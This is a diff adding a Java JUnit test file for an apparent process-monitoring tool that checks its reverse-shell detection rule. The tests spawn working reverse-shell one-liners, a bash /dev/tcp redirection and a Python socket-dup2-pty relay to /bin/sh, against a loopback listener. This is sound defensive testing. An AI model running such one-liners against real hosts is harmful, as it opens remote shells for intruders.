@@ -1,0 +1,106 @@
+package dev.picket.judge;
+
+import dev.picket.profile.ThreatRule;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+
+import java.io.OutputStream;
+import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * reverse-shell: an interpreter whose standard streams are a TCP connection, to a listener this test holds
+ * on loopback and through which it types commands.
+ */
+class ReverseShellLocalTest {
+
+    private String bash;
+
+    @BeforeEach
+    void tools() {
+        Tools.requireTools("bash");
+        bash = Tools.real("bash");
+    }
+
+    @Test
+    void bashOnATcpSocketIsOneViolationItsNonInterpreterChildrenNone() throws Exception {
+        try (ServerSocket attacker = new ServerSocket(0, 5, InetAddress.getLoopbackAddress());
+                Spawner root = Spawner.start(); Watch w = Watch.tree(root.pid(), Profiles.permissive())) {
+            int port = attacker.getLocalPort();
+            String connectBack = "exec bash 0<>/dev/tcp/127.0.0.1/" + port + " 1>&0 2>&0";
+            long shell = root.spawnNoWait(null, "bash", "-c", connectBack);
+            try (Socket session = attacker.accept()) {
+                Finding f = w.await(ThreatRule.REVERSE_SHELL.id());
+                Expect.threat(f, ThreatRule.REVERSE_SHELL, shell);
+                assertThat(f.subject().exe().path()).isEqualTo(bash);
+                assertThat(f.subject().argv().args()).containsExactly("bash");
+                assertThat(f.subject().uid().effective()).isZero();
+                assertThat(f.remote()).isEqualTo("127.0.0.1:" + port + "/tcp");
+                assertThat(f.detail()).isEqualTo(bash + " (pid " + shell + ") has its fd 0 on a network socket to 127.0.0.1:"
+                        + port + "/tcp");
+
+                // the attacker runs a tool: it inherits the socket as its stdio, but is no interpreter
+                OutputStream typed = session.getOutputStream();
+                typed.write("sleep 521 &\n".getBytes(StandardCharsets.US_ASCII));
+                typed.flush();
+                var tool = w.awaitProcess("521", Duration.ofSeconds(5));
+                w.scanFor(Duration.ofSeconds(1));
+                assertThat(tool.stdioSockets()).as("the tool's stdio is the socket").isNotEmpty();
+                assertThat(w.findings()).as("one shell over many scans, nothing for the tool").containsExactly(f);
+                assertThat(w.last().outbound()).as("loopback is never egress, and not judged here").isNotEmpty();
+            }
+            try (Socket second = connectAnother(root, attacker, connectBack)) {
+                w.until(Duration.ofSeconds(5), "a second shell", x -> x.findings().size() == 2);
+                assertThat(w.findings().get(1).rule()).isEqualTo(ThreatRule.REVERSE_SHELL.id());
+                assertThat(w.findings().get(1).subject().pid()).isNotEqualTo((int) shell);
+            }
+        }
+    }
+
+    private static Socket connectAnother(Spawner root, ServerSocket attacker, String connectBack) throws Exception {
+        root.spawnNoWait(null, "bash", "-c", connectBack);
+        return attacker.accept();
+    }
+
+    /** The classic Python one-liner: the socket on fds 0-2, then a shell on a pty; Python is the relay. */
+    @Test
+    void pythonRelayingAPtyShellIsCaughtAsTheInterpreterOnTheSocket() throws Exception {
+        try (ServerSocket attacker = new ServerSocket(0, 5, InetAddress.getLoopbackAddress());
+                Spawner root = Spawner.start(); Watch w = Watch.tree(root.pid(), Profiles.permissive())) {
+            int port = attacker.getLocalPort();
+            long relay = root.spawn(Tools.PYTHON, "-c", String.join(";",
+                    "import socket, os, pty",
+                    "s = socket.create_connection(('127.0.0.1', " + port + "))",
+                    "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]",
+                    "pty.spawn('/bin/sh')"));
+            try (Socket session = attacker.accept()) {
+                Finding f = w.await(ThreatRule.REVERSE_SHELL.id(), Duration.ofSeconds(10));
+                w.scanFor(Duration.ofMillis(800));
+                assertThat(w.findings()).containsExactly(f);
+                Expect.threat(f, ThreatRule.REVERSE_SHELL, relay);
+                assertThat(f.remote()).isEqualTo("127.0.0.1:" + port + "/tcp");
+            }
+        }
+    }
+
+    @Test
+    void aShellWhoseStdioIsAUnixSocketIsNoReverseShell() {
+        try (Spawner root = Spawner.start(); Watch w = Watch.tree(root.pid(), Profiles.permissive())) {
+            long pid = root.spawnNoWait(null, Tools.PYTHON, "-c", String.join(";",
+                    "import socket, os",
+                    "a, b = socket.socketpair()",
+                    "[os.dup2(a.fileno(), fd) for fd in (0, 1, 2)]",
+                    "os.execv('" + bash + "', ['bash', '-c', 'sleep 522; :'])"));
+            Tools.awaitExe(pid, bash);
+            w.awaitProcess("522", Duration.ofSeconds(5));
+            w.scanFor(Duration.ofSeconds(1));
+            assertThat(w.last().process((int) pid).stdioSockets()).as("stdio is a socket").hasSize(3);
+            assertThat(w.findings()).isEmpty();
+        }
+    }
+}
